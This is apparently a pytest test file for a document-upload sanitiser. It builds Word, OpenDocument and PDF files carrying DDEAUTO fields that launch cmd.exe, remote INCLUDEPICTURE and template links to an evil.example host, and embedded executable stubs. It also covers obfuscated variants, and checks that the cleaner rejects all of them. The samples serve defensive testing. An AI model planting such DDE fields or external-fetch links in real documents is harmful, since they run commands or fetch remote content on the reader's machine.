"""Documents that act, fetch or carry another file when they are opened, however that is written."""

from __future__ import annotations

import io

import pikepdf
import pytest

from goldenthread.core.errors import UserError
from goldenthread.documents.rules.uploads.cleaning import clean
from tests.documents import sending
from tests.documents.sending import parts_of, zipped

PLACE = "http://schemas.openxmlformats.org/"
LEADS = (
    f'<Relationships xmlns="{PLACE}package/2006/relationships"><Relationship Id="r1" Target="http://evil.example/x"'
    f' Type="{PLACE}officeDocument/2006/relationships/KIND" TargetMode="MODE"/></Relationships>'
)


def docx(**parts: str) -> bytes:
    """A document with these parts besides; two underscores in a name stand for a slash, one for a point."""
    named = {one.replace("__", "/").replace("_", "."): words for one, words in parts.items()}
    return zipped(
        parts_of(sending.FILES["docx"]()) | {name: words.encode() for name, words in named.items()}
    )


def saying(body: str) -> bytes:
    space = f'xmlns:w="{PLACE}wordprocessingml/2006/main"'
    return docx(word__document_xml=f"<w:document {space}><w:body>{body}</w:body></w:document>")


def field(*runs: str) -> str:
    words = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in runs)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{one}"/></w:r>' for one in ("begin", "end"))
    return f"<w:p>{begin}{words}{end}</w:p>"


def refused(kind: str, data: bytes) -> str:
    with pytest.raises(UserError) as found:
        clean(kind, data)
    return found.value.code


@pytest.mark.parametrize(
    "body",
    [
        field('DDEAUTO c:\\cmd.exe "/k calc"'),
        field(" DDE", 'AUTO c:\\cmd.exe "/k calc"'),
        field("IF 1 = 1") + field("INCLUDE", "TEXT x"),
        field("inc", "ludepicture x"),
        field("LINK Excel.Sheet x"),
        field("IMPORT x"),
        '<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;http://evil.example/p&quot;"/></w:p>',
    ],
)
def test_fields_that_act_or_fetch(body: str) -> None:
    assert refused("docx", saying(body)) == "file_fetches"


def test_a_field_within_a_field() -> None:
    inner = field("DDEAUTO x")[5:-6]
    whole = field("IF ", "MARK").replace("<w:r><w:instrText>MARK</w:instrText></w:r>", inner)
    assert refused("docx", saying(whole)) == "file_fetches"


def test_a_name_that_another_field_makes() -> None:
    inner = field("QUOTE 68 68 69")[5:-6]
    whole = field("MARK", "AUTO x").replace("<w:r><w:instrText>MARK</w:instrText></w:r>", inner)
    assert refused("docx", saying(whole)) == "file_fetches"


def test_the_strict_family_of_elements() -> None:
    plain = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    strict = b"http://purl.oclc.org/ooxml/wordprocessingml/main"
    parts = parts_of(saying(field("DDEAUTO x")))
    name = "word/document.xml"
    data = zipped(parts | {name: parts[name].replace(plain, strict)})
    assert refused("docx", data) == "file_fetches"


def test_fields_that_every_document_may_have_stay() -> None:
    result = f'<w:r><w:fldChar w:fldCharType="separate"/></w:r>{field("PAGEREF x")[5:-6]}'
    body = field("TOC").replace("</w:instrText></w:r>", "</w:instrText></w:r>" + result)
    body += field("PAGE") + field('HYPERLINK "https://www.gov.uk"') + field("DATE ", "LINKED")
    assert clean("docx", saying(body))


@pytest.mark.parametrize("mode", ["External", "external", " EXTERNAL "])
@pytest.mark.parametrize("end", ["rels", "RELS"])
def test_links_in_capitals_and_small_letters(mode: str, end: str) -> None:
    name = f"word/_rels/footer1.xml.{end}"
    leads = LEADS.replace("KIND", "image").replace("MODE", mode)
    data = zipped(parts_of(sending.FILES["docx"]()) | {name: leads.encode()})
    assert refused("docx", data) == "file_fetches"


def test_a_template_goes_and_what_is_dropped_is_dropped_whatever_its_letters() -> None:
    leads = LEADS.replace("KIND", "attachedTemplate").replace("MODE", "External")
    data = zipped(
        parts_of(sending.FILES["docx"]())
        | {"word/_rels/settings.xml.RELS": leads.encode(), "DOCPROPS/core.xml": b"<a>evil.example</a>"}
    )  # fmt: skip
    kept = parts_of(clean("docx", data))
    assert b"evil.example" not in b"".join(kept.values())


def test_an_open_document_that_another_program_fills_in() -> None:
    body = '<office:dde-source office:dde-application="soffice" office:dde-topic="x"/>'
    assert refused("odt", sending.some_odt(body)) == "file_fetches"


def pdf_with(what: str) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    stream = pdf.make_stream(b"MZ evil")
    one = pikepdf.Dictionary()
    match what:
        case "a list of files that does not say so":
            one["/FS"] = pikepdf.Dictionary({"/EF": pikepdf.Dictionary({"/F": stream})})
        case "a file by itself":
            stream["/Type"] = pikepdf.Name("/EmbeddedFile")
            one["/Holds"] = stream
        case _:
            one["/Subtype"] = pikepdf.Name("/FileAttachment")
    pdf.pages[0].obj["/Annots"] = pikepdf.Array([pdf.make_indirect(one)])
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


@pytest.mark.parametrize(
    "what", ["a list of files that does not say so", "a file by itself", "a paper clip"]
)
def test_a_file_inside_a_pdf(what: str) -> None:
    assert refused("pdf", pdf_with(what)) == "file_programs_inside"
